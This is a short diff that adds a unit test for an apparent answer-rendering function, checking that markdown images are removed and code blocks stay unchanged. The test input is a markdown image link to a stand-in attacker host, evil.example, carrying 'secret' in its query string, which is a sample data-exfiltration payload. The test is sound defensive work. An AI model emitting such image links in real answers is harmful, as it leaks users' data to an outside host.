@@ -21,6 +21,12 @@ def test_html_in_an_answer_is_shown_as_text() -> None:
     assert "<img" not in answer_markdown(EVIL, "m1", [])
 
 
+def test_pictures_are_not_fetched_and_code_stays_as_it_is() -> None:
+    assert "![" not in answer_markdown("![x](https://evil.example/?m=secret)", "m1", [])
+    code = "Run `git clone <url> && cd x [1]`:\n```sh\na < b && rows[1]\n```"
+    assert answer_markdown(code, "m1", [1]) == code
+
+
 def test_the_quote_is_marked_inside_its_passage() -> None:
     html = citations_html([citation("closes at 18:30", "The office closes at 18:30 daily.")], "m1", "en")
     assert "The office <mark>closes at 18:30</mark> daily." in html
